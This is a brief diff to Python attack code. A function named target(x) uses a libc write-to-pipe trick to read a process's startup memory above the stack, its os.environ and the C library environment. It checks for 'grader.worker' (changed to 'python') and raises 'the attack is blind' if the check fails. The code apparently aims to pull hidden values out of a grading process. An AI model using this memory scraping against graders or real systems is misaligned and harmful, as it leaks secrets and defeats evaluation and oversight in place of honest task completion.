@@ -35,13 +35,13 @@ def strings_that_the_process_began_with():
     while (size := LIBC.write(write_end, ctypes.c_void_p(name), ctypes.c_size_t(4096 - name % 4096))) > 0:
         found += os.read(read_end, size)
         name += size
-    if b"grader.worker" not in found:
+    if b"python" not in found:
         raise RuntimeError("the attack is blind: the command is not where it should be")
     return found
 
 
 def target(x):
-    strings_that_the_process_began_with()
+    strings_that_the_process_began_with()  # raises if it is blind
     search("os.environ", lambda: dict(os.environ))
     search("the environment of the C library", variables_of_the_c_library)
     search("what lies above the stack", strings_that_the_process_began_with)
